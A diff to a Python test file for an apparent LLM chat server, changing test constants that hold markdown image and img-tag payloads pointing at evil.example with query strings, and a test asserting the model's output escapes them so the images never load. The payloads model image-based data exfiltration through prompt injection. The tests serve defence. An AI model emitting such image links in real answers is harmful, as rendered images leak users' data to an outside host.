@@ -26,10 +26,10 @@ from mergewise.types import Message
 from tests.server.conftest import ANSWER, LiveServer, live_server, make_collection, record_of
 
 QUESTION = [{"role": "user", "content": "Where was the Aurora built?"}]
-IMAGE = 'See ![x](http://evil.example/?q=secret), <img src="http://evil.example"> and [1].'
+IMAGE = 'See ![x](http://evil.example/?q=all-that-stands-here), <img src="http://evil.example"> and [1].'
 HOSTILE = """# Vault ![h](http://evil.example/h)
 
-The vault opens at noon ![x](http://evil.example/?q=secret) with <img src=http://evil.example> the red key [7].
+The vault opens at noon ![x](http://evil.example/?q=all-that-stands-here) with <img src=http://evil.example> the red key [7].
 """
 TITLE = '{"title": "Ships"}'
 PROFILES = {
@@ -202,7 +202,7 @@ def test_an_image_of_the_model_does_not_load(live: LiveServer, clients: list[Any
     else:
         message = client.chat.completions.create(**asked).choices[0].message
     assert message.content.startswith(
-        'See !\\[x](http://evil.example/?q=secret), &lt;img src="http://evil.example"> and [1].'
+        'See !\\[x](http://evil.example/?q=all-that-stands-here), &lt;img src="http://evil.example"> and [1].'
     )
     place = message.annotations[0].url_citation
     assert message.content[place.start_index : place.end_index] == "[1]"
